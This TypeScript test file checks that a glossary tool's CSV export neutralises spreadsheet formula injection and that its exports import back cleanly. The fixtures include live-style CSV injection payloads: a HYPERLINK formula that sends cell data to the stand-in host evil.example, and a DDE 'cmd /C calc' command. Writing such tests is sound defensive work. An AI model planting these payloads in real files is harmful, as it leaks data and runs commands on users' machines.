import { describe, expect, it } from 'vitest';
import { db } from '@/lib/dal/core/db.ts';
import { createGlossaryTerm, importGlossary, listGlossaryTerms } from '@/lib/dal/memory/glossary.ts';
import { systemViewer } from '@/lib/dal/core/viewer-types.ts';
import { parseCsv } from '@/lib/domain/glossary/csv.ts';
import { readGlossaryCsv, writeGlossaryCsv } from '@/lib/domain/glossary/glossary-csv.ts';
import { exportGlossary } from '@/lib/domain/glossary/glossary-files.ts';
import type { GlossaryTermFields } from '@/lib/domain/glossary/glossary-term.ts';

/*
 * The glossary's CSV export is opened in spreadsheets, which run a cell starting with = + - @ (or a
 * tab or carriage return) as a formula. Each such cell is written with a ' in front (OWASP's CSV
 * injection advice), and importing Duet's own export gives back exactly the terms it was made from.
 */

const term = (source: string, target: string, notes = '', partOfSpeech = ''): GlossaryTermFields => ({ source, target, notes, partOfSpeech, status: 'preferred' });

const hostile: GlossaryTermFields[] = [
  term('=HYPERLINK("https://evil.example/?"&A1,"click")', '超链接', '=1+1', '@SUM(1)'),
  term('+cmd|" /C calc"!A0', '加号', '-2+3', '+verb'),
  term('-ish', '后缀', '@mention', '-'),
  term('@handle', '句柄'),
  term("'=already quoted", '引号等号'),
  term("''+two quotes", '两个引号'),
  term("'tis", '诗'),
  term('plain', '普通', "'quoted' note"),
];

describe('the glossary CSV export', () => {
  it('puts a quote before every cell a spreadsheet would run, and nowhere else', () => {
    const [, ...records] = parseCsv(writeGlossaryCsv(hostile));
    const cells = records.flatMap((record) => record.fields);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(records[0]!.fields.slice(0, 4)).toEqual(['\'=HYPERLINK("https://evil.example/?"&A1,"click")', '超链接', "'=1+1", "'@SUM(1)"]);
    expect(records[2]!.fields.slice(0, 4)).toEqual(["'-ish", '后缀', "'@mention", "'-"]);
    expect(records[4]!.fields[0]).toBe("''=already quoted");
    expect(records[6]!.fields[0]).toBe("'tis");
    expect(records[7]!.fields[2]).toBe("'quoted' note");
  });

  it('reads back to the same terms', () => {
    expect(readGlossaryCsv(writeGlossaryCsv(hostile)).rows.map((row) => row.term)).toEqual(hostile);
  });

  it('takes the guard off a file written the same way by another tool', () => {
    const { rows } = readGlossaryCsv("english,chinese\n'-ish,后缀\n'@handle,句柄\n");
    expect(rows.map((row) => row.term.source)).toEqual(['-ish', '@handle']);
  });

  it('imports an export of the glossary as it is: nothing created, nothing changed', async () => {
    for (const fields of hostile) await createGlossaryTerm(systemViewer, fields);
    const before = await db.glossaryTerm.findMany({ orderBy: { id: 'asc' } });
    const file = exportGlossary(await listGlossaryTerms(systemViewer), 'csv');
    expect(file.body).toContain("'=HYPERLINK(");
    const report = await importGlossary(systemViewer, { format: 'csv', content: file.body });
    expect(report).toMatchObject({ created: 0, updated: 0, unchanged: before.length, invalid: [] });
    expect(await db.glossaryTerm.findMany({ orderBy: { id: 'asc' } })).toEqual(before);
  });
});
